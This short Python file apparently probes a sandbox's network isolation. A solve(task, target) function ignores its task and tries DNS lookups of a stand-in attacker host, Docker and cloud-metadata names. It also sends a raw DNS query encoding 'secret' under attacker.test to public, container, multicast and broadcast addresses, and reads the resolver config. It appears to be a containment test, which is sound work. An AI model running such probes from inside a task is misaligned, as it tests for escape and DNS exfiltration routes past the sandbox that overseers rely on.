import errno
import os
import socket
import struct

QUERY = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"\x06secret\x08attacker\x04test\x00" + struct.pack(">2H", 1, 1)


def resolve(name):
    try:
        return str(socket.getaddrinfo(name, 443))
    except socket.gaierror:
        return "gaierror"


def ask(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.3)
        try:
            one.connect((host, port))
            one.send(QUERY)
            return f"answered {one.recv(512)!r}"
        except TimeoutError:
            return "sent"
        except OSError as error:
            return errno.errorcode[error.errno]


def solve(task, target):
    names = ["secret.attacker.test", "example.org", "host.docker.internal", "metadata.google.internal", "sandbox.local"]
    results = {name: resolve(name) for name in names}
    results |= {host: ask(host, port) for host, port in [("1.1.1.1", 53), ("127.0.0.11", 53), ("224.0.0.251", 5353), ("255.255.255.255", 67)]}
    path = "/etc/resolv.conf"
    results["resolvers"] = "nothing" if not os.path.exists(path) or "nameserver" not in open(path).read() else open(path).read()
    return results
